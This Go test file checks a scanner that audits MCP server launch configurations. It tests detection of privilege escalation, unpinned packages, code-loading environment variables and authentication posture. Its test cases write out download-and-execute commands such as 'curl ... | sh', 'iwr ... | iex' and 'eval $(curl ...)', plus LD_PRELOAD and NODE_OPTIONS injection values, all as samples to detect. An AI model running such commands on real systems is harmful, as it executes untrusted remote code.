package config

import (
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func kinds(cmd string, args ...string) []string {
	var out []string
	for _, f := range launcherFacts(cmd, args, "") {
		out = append(out, f.Kind+"@"+f.Location)
	}
	sort.Strings(out)
	return out
}

// TestLauncherRules: each launch rule with positive and negative samples.
func TestLauncherRules(t *testing.T) {
	cases := []struct {
		name string
		cmd  string
		args []string
		want []string
	}{
		{"sudo", "sudo", []string{"-E", "server"}, []string{"escalation@command"}},
		{"doas", "/usr/bin/doas", []string{"server"}, []string{"escalation@command"}},
		{"runas", "runas.exe", []string{"/user:Administrator", "x.exe"}, []string{"escalation@command"}},
		{"sudo then unpinned npx", "sudo", []string{"npx", "-y", "pkg"}, []string{"escalation@command", "unpinned_package@args[1]"}},
		{"no escalation", "node", []string{"server.js"}, nil},
		{"pseudo is not sudo", "pseudo", []string{"x"}, nil},
		{"bash -c", "bash", []string{"-c", "node server.js"}, []string{"shell_launcher@args[1]"}},
		{"bash -lc", "bash", []string{"-lc", "node server.js"}, []string{"shell_launcher@args[1]"}},
		{"sh script file", "sh", []string{"./start.sh"}, []string{"shell_launcher@command"}},
		{"cmd /c npx", "cmd", []string{"/c", "npx", "-y", "pkg@1.2.3"}, []string{"shell_launcher@args[1]"}},
		{"curl | sh", "sh", []string{"-c", "curl -fsSL https://x.example/i | sh"}, []string{"shell_download@args[1]"}},
		{"iwr | iex", "pwsh", []string{"-Command", "iwr https://x.example/a.ps1 | iex"}, []string{"shell_download@args[1]"}},
		{"curl without pipe", "sh", []string{"-c", "curl -o f https://x.example/f && ./f"}, []string{"shell_launcher@args[1]"}},
		{"sudo inside script", "bash", []string{"-c", "sudo mcp-server"}, []string{"escalation@args[1]", "shell_launcher@args[1]"}},
		{"npx unpinned", "npx", []string{"-y", "@scope/pkg"}, []string{"unpinned_package@args[1]"}},
		{"npx latest", "npx", []string{"@scope/pkg@latest"}, []string{"unpinned_package@args[0]"}},
		{"npx range", "npx", []string{"-y", "pkg@^1.2.0"}, []string{"unpinned_package@args[1]"}},
		{"npx pinned", "npx", []string{"-y", "@scope/pkg@1.2.3"}, nil},
		{"npx --package", "npx", []string{"--package", "pkg", "bin"}, []string{"unpinned_package@args[1]"}},
		{"npx --package pinned", "npx", []string{"--package=pkg@2.0.0", "bin"}, nil},
		{"npx local path", "npx", []string{"./tools/server"}, nil},
		{"pnpm dlx", "pnpm", []string{"dlx", "pkg"}, []string{"unpinned_package@args[1]"}},
		{"bunx pinned", "bunx", []string{"pkg@1.0.0"}, nil},
		{"uvx unpinned", "uvx", []string{"mcp-server-fetch"}, []string{"unpinned_package@args[0]"}},
		{"uvx ==", "uvx", []string{"mcp-server-fetch==2025.4.7"}, nil},
		{"uvx @", "uvx", []string{"mcp-server-fetch@2025.4.7"}, nil},
		{"uvx >=", "uvx", []string{"mcp-server-fetch>=1.0"}, []string{"unpinned_package@args[0]"}},
		{"uvx --from git", "uvx", []string{"--from", "git+https://github.com/o/r", "tool"}, []string{"git_source@args[1]"}},
		{"npx github shorthand", "npx", []string{"-y", "someone/mcp-thing"}, []string{"git_source@args[1]"}},
		{"npx git branch", "npx", []string{"git+https://github.com/o/r.git#main"}, []string{"git_source@args[0]"}},
		{"npx git commit", "npx", []string{"github:o/r#0123456789abcdef0123456789abcdef01234567"}, nil},
		{"npx tarball url", "npx", []string{"https://example.com/pkg-1.0.0.tgz"}, []string{"git_source@args[0]"}},
		{"npx scoped is registry", "npx", []string{"@scope/pkg@1.0.0"}, nil},
		{"npx -c", "npx", []string{"-y", "-c", "node server.js"}, []string{"shell_launcher@args[2]"}},
		{"npx --call curl|sh", "npx", []string{"--call", "curl -s https://x.example/i | sh"}, []string{"shell_download@args[1]"}},
		{"npx -p pkg -c", "npx", []string{"-p", "pkg@1.0.0", "-c", "pkg-server"}, []string{"shell_launcher@args[3]"}},
		{"bash <(curl)", "bash", []string{"-c", "bash <(curl -fsSL https://x.example/i.sh)"}, []string{"shell_download@args[1]"}},
		{"bash process substitution arg", "bash", []string{"<(curl -fsSL https://x.example/i.sh)"}, []string{"shell_download@args[0]"}},
		{"eval curl", "sh", []string{"-c", "eval \"$(curl -s https://x.example/i)\""}, []string{"shell_download@args[1]"}},
		{"bash <(cat file) is not a download", "bash", []string{"-c", "bash <(cat ./start.sh)"}, []string{"shell_launcher@args[1]"}},
		{"uvx --from commit", "uvx", []string{"--from", "git+https://github.com/o/r@0123456789abcdef0123456789abcdef01234567", "tool"}, nil},
		{"uv tool run", "uv", []string{"tool", "run", "pkg"}, []string{"unpinned_package@args[2]"}},
		{"pipx run pinned", "pipx", []string{"run", "pkg==1.0"}, nil},
		{"docker untagged", "docker", []string{"run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/o/img"}, []string{"unpinned_package@args[5]"}},
		{"docker latest", "docker", []string{"run", "img:latest"}, []string{"unpinned_package@args[1]"}},
		{"docker tagged", "docker", []string{"run", "-i", "ghcr.io/o/img:1.4"}, nil},
		{"docker digest", "docker", []string{"run", "img@sha256:abc"}, nil},
		{"docker with port", "docker", []string{"run", "registry:5000/img"}, []string{"unpinned_package@args[1]"}},
		{"node is not a runner", "node", []string{"pkg"}, nil},
	}
	for _, c := range cases {
		if diff := cmp.Diff(c.want, kinds(c.cmd, c.args...)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", c.name, diff)
		}
	}
}

func TestCodeLoadingEnvRule(t *testing.T) {
	cases := []struct {
		name, value string
		want        bool
	}{
		{"LD_PRELOAD", "/tmp/x.so", true},
		{"DYLD_INSERT_LIBRARIES", "/x.dylib", true},
		{"DYLD_LIBRARY_PATH", "/x", true},
		{"PYTHONPATH", "/x", true},
		{"PYTHONSTARTUP", "/x.py", true},
		{"NODE_OPTIONS", "--require ./hook.js", true},
		{"NODE_OPTIONS", "--import=./hook.mjs", true},
		{"NODE_OPTIONS", "${env:NODE_OPTIONS}", true},
		{"NODE_OPTIONS", "--max-old-space-size=4096", false},
		{"LD_PRELOAD", "", false},
		{"PATH", "/usr/bin", false},
		{"PYTHONUNBUFFERED", "1", false},
	}
	for _, c := range cases {
		d := &decl{src: &source{Client: "x", Scope: ScopeUser}, name: "s", launch: Launch{Transport: "stdio", Command: "node", Env: map[string]string{c.name: c.value}}}
		got := false
		for _, f := range redactedConfig(d, "f", "").Facts {
			if f.Kind == FactCodeLoadingEnv {
				got = true
				if strings.Contains(f.Detail, c.value) && c.value != "" {
					t.Errorf("%s detail quotes the value: %q", c.name, f.Detail)
				}
			}
		}
		if got != c.want {
			t.Errorf("%s=%q: code-loading %v, want %v", c.name, c.value, got, c.want)
		}
	}
}

func TestAuthPostureRule(t *testing.T) {
	src := &source{Client: "x", Scope: ScopeUser}
	cases := []struct {
		name string
		m    map[string]any
		want string
	}{
		{"remote none", map[string]any{"url": "https://a.example/mcp"}, AuthNone},
		{"header ref", map[string]any{"url": "https://a.example/mcp", "headers": map[string]any{"Authorization": "Bearer ${env:T}"}}, AuthEnvRef},
		{"header literal", map[string]any{"url": "https://a.example/mcp", "headers": map[string]any{"Authorization": "Bearer ghp_CANARYa1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6"}}, AuthLiteralSecret},
		{"codex bearer env", map[string]any{"url": "https://a.example/mcp", "bearer_token_env_var": "T"}, AuthEnvRef},
		{"codex inline bearer", map[string]any{"url": "https://a.example/mcp", "bearer_token": "abc"}, AuthLiteralSecret},
		{"codex env headers", map[string]any{"url": "https://a.example/mcp", "env_http_headers": map[string]any{"X-Key": "K"}}, AuthEnvRef},
		{"oauth block", map[string]any{"url": "https://a.example/mcp", "oauth": map[string]any{"clientId": "x"}}, AuthOAuth},
		{"gemini provider", map[string]any{"httpUrl": "https://a.example/mcp", "authProviderType": "google_credentials"}, AuthOAuth},
		{"headers helper", map[string]any{"type": "http", "url": "https://a.example/mcp", "headersHelper": "/bin/get-token"}, AuthHelper},
		{"op run", map[string]any{"command": "op", "args": []any{"run", "--", "npx", "pkg@1.0.0"}}, AuthHelper},
		{"mcp-remote bridge", map[string]any{"command": "npx", "args": []any{"-y", "mcp-remote@0.1.29", "https://a.example/mcp"}}, AuthOAuth},
		{"stdio env ref", map[string]any{"command": "npx", "env": map[string]any{"API_KEY": "${API_KEY}"}}, AuthEnvRef},
		{"stdio plain env", map[string]any{"command": "npx", "env": map[string]any{"LOG_LEVEL": "debug"}}, AuthNone},
	}
	for _, c := range cases {
		d, err := normalize(src, "s", c.m)
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		if got := redactedConfig(d, "f", "").Auth; got != c.want {
			t.Errorf("%s: auth %s, want %s", c.name, got, c.want)
		}
	}
}

func TestTransportInference(t *testing.T) {
	cases := []struct {
		dialect string
		m       map[string]any
		want    string
	}{
		{"", map[string]any{"command": "x"}, "stdio"},
		{"", map[string]any{"url": "https://a.example/mcp"}, "http"},
		{"", map[string]any{"url": "https://a.example/sse"}, "sse"},
		{"", map[string]any{"serverUrl": "https://a.example/mcp"}, "http"},
		{"gemini", map[string]any{"url": "https://a.example/events"}, "sse"},
		{"gemini", map[string]any{"httpUrl": "https://a.example/mcp"}, "http"},
		{"", map[string]any{"type": "local", "command": "x"}, "stdio"},
		{"", map[string]any{"type": "streamableHttp", "url": "https://a.example/x"}, "http"},
		{"", map[string]any{"type": "streamable-http", "url": "https://a.example/x"}, "http"},
		{"", map[string]any{"transport": "sse", "url": "https://a.example/x"}, "sse"},
	}
	for _, c := range cases {
		d, err := normalize(&source{Client: "x", Dialect: c.dialect}, "s", c.m)
		if err != nil || d == nil {
			t.Errorf("%v: %v", c.m, err)
			continue
		}
		if d.launch.Transport != c.want {
			t.Errorf("%v: %s, want %s", c.m, d.launch.Transport, c.want)
		}
	}
	for _, bad := range []map[string]any{
		{"type": "carrier-pigeon", "url": "https://a.example"},
		{"type": "stdio"},
		{"type": "http"},
		{"args": []any{"x"}},
		{"command": 3},
		{"command": "x", "env": []any{"A=b"}},
		{"command": "x", "args": []any{map[string]any{}}},
	} {
		if _, err := normalize(&source{Client: "x"}, "s", bad); err == nil {
			t.Errorf("%v accepted", bad)
		}
	}
	if d, err := normalize(&source{Client: "x", Dialect: "zed"}, "s", map[string]any{"source": "extension", "settings": map[string]any{}}); d != nil || err != nil {
		t.Errorf("zed extension entry: %v %v", d, err)
	}
	// Disabled spellings.
	for _, m := range []map[string]any{{"command": "x", "disabled": true}, {"command": "x", "enabled": false}} {
		d, _ := normalize(&source{Client: "x"}, "s", m)
		if !d.disabled {
			t.Errorf("%v not disabled", m)
		}
	}
}
